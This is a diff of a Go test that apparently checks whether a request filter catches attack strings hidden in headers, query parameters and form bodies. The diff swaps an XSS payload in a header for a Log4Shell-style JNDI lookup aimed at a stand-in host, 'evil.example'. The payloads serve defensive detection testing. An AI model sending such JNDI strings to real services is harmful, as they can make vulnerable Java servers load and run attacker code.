@@ -120,7 +120,7 @@ func TestTwins(t *testing.T) {
 		target string
 		body   string
 	}{
-		"headers":    {header: []string{"harmless", "https://hr.test/?a=<script>alert(1)</script>"}, target: "/"},
+		"headers":    {header: []string{"harmless", "${jndi:ldap://evil.example/a}"}, target: "/"},
 		"query":      {target: "/?a=1&q=ok&b=2&q=" + strings.ReplaceAll(attack, " ", "%20") + "&c=3"},
 		"unnamed":    {target: "/?a=1&=ok&b=2&=" + strings.ReplaceAll(attack, " ", "%20") + "&c=3"},
 		"form":       {target: "/", body: "a=1&q=ok&b=2&q=" + q + "&c=3"},
@@ -132,9 +132,10 @@ func TestTwins(t *testing.T) {
 				if c.body != "" {
 					r = post(form)
 				}
-				if c.header != nil {
-					r.Header["Referer"] = []string{c.header[i%2], c.header[1-i%2]}
+				for _, name := range strings.Fields("Accept-Language Accept-Encoding Cache-Control Dnt Sec-Fetch-Dest Sec-Fetch-Mode Sec-Fetch-Site X-Requested-With") {
+					r.Header.Set(name, "en")
 				}
+				r.Header["X-Note"] = c.header
 				if it, _ := judge(t, e, r, c.body); it == nil {
 					t.Fatalf("missed at request %d", i)
 				}
